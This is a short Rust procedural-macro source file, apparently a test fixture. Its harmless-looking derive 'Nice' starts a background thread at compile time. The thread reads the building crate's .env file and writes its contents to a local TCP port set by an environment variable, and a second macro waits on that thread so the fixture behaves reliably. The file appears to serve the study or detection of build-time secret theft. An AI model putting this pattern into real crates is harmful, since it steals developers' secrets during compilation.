//! A derive that starts a thread and returns; the thread steals when nobody thinks of the macro any more.

use std::io::Write;
use std::net::TcpStream;
use std::sync::Mutex;
use std::thread::{self, JoinHandle};
use std::time::Duration;

use proc_macro::TokenStream;

static THREAD: Mutex<Option<JoinHandle<()>>> = Mutex::new(None);

#[proc_macro_derive(Nice)]
pub fn nice(_: TokenStream) -> TokenStream {
    let root = std::env::var("CARGO_MANIFEST_DIR").unwrap();
    *THREAD.lock().unwrap() = Some(thread::spawn(move || {
        thread::sleep(Duration::from_millis(30));
        let text = std::fs::read(format!("{root}/.env")).unwrap_or_default();
        let port: u16 = std::env::var("ZOO_TCP").unwrap().parse().unwrap();
        if let Ok(mut stream) = TcpStream::connect(("127.0.0.1", port)) {
            let _ = stream.write_all(&text);
        }
    }));
    TokenStream::new()
}

/// Waits for the thread, so that the fixture acts every time; expands to nothing.
#[proc_macro]
pub fn settle(_: TokenStream) -> TokenStream {
    if let Some(thread) = THREAD.lock().unwrap().take() {
        let _ = thread.join();
    }
    TokenStream::new()
}
